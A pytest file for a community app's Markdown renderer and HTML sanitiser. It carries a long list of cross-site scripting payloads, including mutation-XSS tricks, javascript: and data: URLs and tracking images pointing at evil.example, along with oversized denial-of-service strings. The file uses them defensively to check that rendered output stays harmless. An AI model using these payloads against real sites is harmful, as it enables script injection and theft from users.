"""What people type is shown, is harmless, and is kept as they typed it."""

import random
import re
import time
import uuid
from html.parser import HTMLParser

import pytest

from communities.chat.actions import send_message
from communities.posts.actions import create_post
from communities.words.render import (
    ATTRIBUTES,
    SCHEMES,
    SENTENCES,
    TAGS,
    _plain,
    _safe,
    check_text,
    render_plain,
    render_rich,
)
from core.errors import Refused
from tests.cast import Cast

# Ways of bringing a script, a style or a call to a stranger's server into a page: as markup, as Markdown, half-written,
# and in the disguises that sanitisers and Markdown parsers have fallen for.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=javascript:alert(1)><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>Go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
    "<a onmouseover=alert(1) href=https://example.org>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org 'x\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=alert(1)>",
    "![x](https://evil.example/spy.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](x\"onerror=\"alert(1))",
    "[![x](https://evil.example/spy.png)](https://example.org)",
    "![x][spy]\n\n[spy]: https://evil.example/spy.png",
    "```\"onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <svg/onload=alert(1)>",
    "- <style>*{}</style>",
    "https://example.org/?q=<script>alert(1)</script>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "www.example.org/<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7|add:7 }}{% debug %}<c-icon />",
]  # fmt: skip


class Seen(HTMLParser):
    """Every element and attribute a browser would meet."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.once("sqlite")
@pytest.mark.parametrize("render", [render_rich, render_plain])
@pytest.mark.parametrize("text", ATTACKS)
def test_attack_is_shown_as_text_and_does_nothing(text: str, render: object) -> None:
    seen = Seen(render(text))  # type: ignore[operator]
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES.get(tag, set()) | {"rel"}
        if name == "href":
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)  # RFC 3986, 3.1; without one: our site
            assert scheme is None or scheme[1] in SCHEMES
            assert not set(value) & {'"', "<", ">", "\n", "\t", "\\"}
        if tag == "a" and name == "rel":
            assert value == "noopener noreferrer nofollow ugc"


def test_attacks_are_many_and_each_is_another() -> None:
    assert len(ATTACKS) == len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_typed_in_a_post_and_a_message_is_kept_letter_for_letter(db: None, cast: Cast, text: str) -> None:
    post = create_post(cast.g1, key=uuid.uuid4(), title="Odd", body=text, by=cast.alice)
    message = send_message(cast.room, text=text, client_id=uuid.uuid4(), by=cast.bob)
    post.refresh_from_db()
    message.refresh_from_db()
    assert post.body == message.body == text.strip()


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("# A\n\n## B\n\n##### C", "<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>\n"),
        ("---", "<hr>\n"),
        ("[x](tel:1)", '<p><a href="tel:1" rel="noopener noreferrer nofollow ugc">x</a></p>\n'),
        ("[x](/groups/)", '<p><a href="/groups/" rel="noopener noreferrer nofollow ugc">x</a></p>\n'),
    ],
)  # fmt: skip
def test_markdown_of_a_post_becomes_this(text: str, html: str) -> None:
    assert render_rich(text) == html


@pytest.mark.parametrize("text", ["**a**", "# a", "- a", "`a`", "[x](https://example.org)", "| a |", "3. a", "> a"])
def test_chat_shows_markdown_as_it_was_typed(text: str) -> None:
    assert Seen(render_plain(text)).text.strip() == text
    assert Seen(render_plain(text)).tags <= {"p", "a"}


def test_image_from_elsewhere_becomes_a_link_and_is_never_loaded() -> None:
    html = render_rich("![Our garden](https://elsewhere.example/garden.png)")
    assert html == (
        '<p>!<a href="https://elsewhere.example/garden.png" rel="noopener noreferrer nofollow ugc">Our garden</a></p>\n'
    )


@pytest.mark.parametrize("text", ["[note]: see", "[a]: https://example.org", "[1]: <x>\n\nwords"])
def test_words_that_look_like_a_link_definition_do_not_vanish(text: str) -> None:
    for word in text.replace("<", "").replace(">", "").split():
        assert word in Seen(render_rich(text)).text


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000, "![" * 10_000, "*a" * 10_000, "**a " * 5_000, "_a" * 10_000, "`" * 20_000, "> " * 10_000,
        "".join("`" * n + "a" for n in range(190)), "[a](b" * 4_000, "http://" * 2_800, "a@" * 10_000, "a." * 10_000,
        "<" * 20_000, "&" * 20_000, "- " * 10_000, "[" * 5_000 + "a" + "]" * 5_000, "a.io " * 4_000, "~~a" * 6_000,
        "http://a.io/" + "(" * 19_000, "<a " * 6_600, "<!--" * 5_000, "\\" * 20_000, "[a]: b\n" * 2_800,
    ],
)  # fmt: skip
def test_hostile_text_of_full_length_is_rendered_quickly(text: str) -> None:
    began = time.process_time()
    render_rich(text)
    render_plain(text)
    assert time.process_time() - began < 3


# What is kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
        ("cafe\u0301", "caf\u00e9"),
        ("w\u0302 y\u0302", "\u0175 \u0177"),
        ("\n  words \n\n", "words"),
        ("a\tb", "a\tb"),
        ("a\u00a0b", "a\u00a0b"),
        ("\u202bשלום\u202c \u200fx", "\u202bשלום\u202c \u200fx"),
        ("a\u202eb", "a\u202eb"),
        ("👩\u200d👧", "👩\u200d👧"),
        ("🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",) * 2,
        ("\U0001fae8", "\U0001fae8"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),
    ],
)  # fmt: skip
def test_text_is_kept_as_typed_with_one_kind_of_line_end_and_composed(typed: str, kept: str) -> None:
    assert check_text(typed, limit=100) == kept


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "\n\t ",
        "\u00a0",
        "\u200b",
        "\u200b\u200d\ufeff",
        "\u202e\u202c",
        "\u2060",
        "\u3000",
        "\u00ad",
        "\u2028",
    ],
)
def test_text_that_shows_nothing_is_refused_as_empty(text: str) -> None:
    with pytest.raises(Refused) as caught:
        check_text(text, limit=100)
    assert (caught.value.code, caught.value.field) == ("invalid", "body")
    assert caught.value.message == "Write something first."


@pytest.mark.parametrize("char", ["\0", "\x07", "\x08", "\x1b", "\x7f", "\x80", "\x9b", "\ud800"])
def test_control_character_is_refused(char: str) -> None:
    with pytest.raises(Refused) as caught:
        check_text(f"a{char}b", limit=100, field="title")
    assert (caught.value.code, caught.value.field) == ("invalid", "title")
    assert "cannot be shown" in caught.value.message


def test_limit_counts_characters_after_composing() -> None:
    assert check_text("e\u0301" * 10, limit=10) == "é" * 10
    assert check_text("👋" * 10, limit=10) == "👋" * 10
    assert check_text("a\r\n" * 4 + "aa", limit=10) == "a\n" * 4 + "aa"
    with pytest.raises(Refused) as caught:
        check_text("é" * 11, limit=10)
    assert caught.value.code == "too_long"
    assert caught.value.message == "This is 11 characters long. The most we can take is 10."


def test_text_full_of_addresses_is_shown_without_finding_them() -> None:
    """Finding bare links costs the square of their number; 200 are linked, 201 are not."""
    few, many = "http://a.example " * 200, "http://a.example " * 201
    assert render_rich(few).count("<a ") == 200
    assert render_rich(many).count("<a ") == 0


ALPHABET = [
    *"ab ŵÂ1",
    *" .,;!?'()-–—’“”…",
    "...",
    "- ",
    "1. ",
    "# ",
    "> ",
    "www.a.cymru ",
    "a.uk",
    "@Bob",
    "&amp;",
    *'<>&"*_`~\\:/|\n\t',
    "👋",
    "\u0301",
]


def test_sentence_without_a_mark_is_what_markdown_and_the_sanitiser_make_of_it() -> None:
    dice, quick = random.Random(7), 0
    for _ in range(3_000):
        text = "".join(dice.choices(ALPHABET[: dice.choice([15, 25, len(ALPHABET)])], k=dice.randint(1, 12)))
        quick += bool(SENTENCES.fullmatch(text))
        assert render_plain(text) == _safe(_plain.render(text)), text
    assert 300 < quick < 2_700


@pytest.mark.parametrize(
    "text", ["Bore da, bawb! Shwmae?", "I am here… (just).", "1. no list", "ŵ", "It’s “fine” – yes."]
)
def test_sentence_is_shown_as_it_was_typed(text: str) -> None:
    assert render_plain(text) == f"<p>{text}</p>\n"


@pytest.mark.parametrize("text", ["see a.uk", "a@example.org", "<b>", "a & b", "two\nlines", "*a*", " a", "a ", "a_b"])
def test_anything_else_goes_through_markdown_and_the_sanitiser(text: str) -> None:
    assert not SENTENCES.fullmatch(text)
